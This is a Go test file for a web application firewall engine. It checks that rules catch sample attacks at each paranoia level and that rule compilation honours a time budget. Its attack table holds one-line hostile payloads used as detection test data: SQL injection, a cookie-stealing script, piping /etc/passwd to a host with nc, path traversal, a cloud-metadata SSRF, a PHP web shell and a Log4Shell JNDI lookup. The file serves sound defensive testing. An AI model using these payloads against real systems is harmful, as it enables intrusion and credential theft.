package engine

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"sync"
	"testing"
	"time"

	"weir/inspect/rules"
)

// built holds one engine per paranoia level for all tests: building one takes a sixth of a second.
var built [5]struct {
	once   sync.Once
	engine *Engine
}

func engineAt(t testing.TB, level int) *Engine {
	t.Helper()
	b := &built[level]
	b.once.Do(func() {
		e, err := New(Options{Paranoia: level, Setup: rules.Setup(), Files: rules.Files()})
		if err != nil {
			t.Fatal(err)
		}
		b.engine = e
	})
	if b.engine == nil {
		t.Fatal("the engine could not be built")
	}
	return b.engine
}

func evaluate(t testing.TB, e *Engine, r *Request, values ...Value) []Match {
	t.Helper()
	matches, err := e.Evaluate(context.Background(), r, values, nil)
	if err != nil {
		t.Fatal(err)
	}
	return matches
}

func ids(matches []Match) []int {
	var out []int
	for _, m := range matches {
		out = append(out, m.Rule)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func score(matches []Match) int {
	total := 0
	for _, m := range matches {
		total += m.Score
	}
	return total
}

func get(uri string, headers ...Header) *Request {
	return &Request{Method: "GET", URI: uri, Protocol: "HTTP/1.1", ClientIP: "192.0.2.7", Headers: append([]Header{
		{"Host", "example.com"},
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"},
		{"Accept", "text/html"},
	}, headers...)}
}

func post(contentType, body string) *Request {
	r := get("/items", Header{"Content-Type", contentType}, Header{"Content-Length", fmt.Sprint(len(body))})
	r.Method = "POST"
	r.Body = []byte(body)
	return r
}

// attacks are one small attack per family, with a rule that must find it at paranoia level 1.
var attacks = []struct {
	name, text string
	rule       int
}{
	{"SQL injection", "1' OR '1'='1' UNION SELECT password FROM users-- ", 942100},
	{"script injection", "<script>alert(document.cookie)</script>", 941100},
	{"command injection", "; cat /etc/passwd | nc 203.0.113.5 4444", 932160},
	{"file inclusion", "../../../../etc/passwd", 930120},
	{"request forgery", "http://169.254.169.254/latest/meta-data/", 934110},
	{"PHP injection", "<?php system($_GET['c']); ?>", 933100},
	{"Log4Shell", "${jndi:ldap://203.0.113.5/a}", 944150},
}

func TestAttacksAreFoundAsValues(t *testing.T) {
	for level := 1; level <= 4; level++ {
		e := engineAt(t, level)
		for _, a := range attacks {
			matches := evaluate(t, e, nil, Value{"Records[0].body", "hello"}, Value{"Records[1].body", a.text})
			if !slices.Contains(ids(matches), a.rule) {
				t.Errorf("level %d, %s: rules %v, want %d among them", level, a.name, ids(matches), a.rule)
			}
			for _, m := range matches {
				if m.Value != 1 || m.Variable != "" {
					t.Errorf("level %d, %s: rule %d matched value %d, variable %q", level, a.name, m.Rule, m.Value, m.Variable)
				}
			}
		}
	}
}

// Whoever has no time left does not wait for rules, and who comes later gets them.
func TestRulesAreNotCompiledWhenTheTimeIsUp(t *testing.T) {
	looks := 0
	limited := true
	e, err := New(Options{Paranoia: 1, Setup: rules.Setup(), Files: rules.Files(), Catalogue: rules.Catalogue(), Now: func() time.Time {
		if looks++; limited {
			return time.Unix(int64(looks), 0)
		}
		return time.Unix(0, 0)
	}})
	if err != nil {
		t.Fatal(err)
	}
	for name, suspects := range map[string]*Suspects{"all": nil, "some": {Rules: []int{942190, 942270, 941110, 932160, 933210, 934100}}} {
		ctx, cancel := context.WithDeadline(t.Context(), time.Unix(4, 0).AddDate(100, 0, 0))
		defer cancel()
		looks, limited = int(time.Unix(0, 0).AddDate(100, 0, 0).Unix()), true
		if err := e.Prepare(ctx, nil, suspects); !errors.Is(err, ErrBudget) {
			t.Errorf("%s: %v", name, err)
		}
		limited = false
		if err := e.Prepare(ctx, nil, suspects); err != nil {
			t.Errorf("%s, with more time: %v", name, err)
		}
	}
}
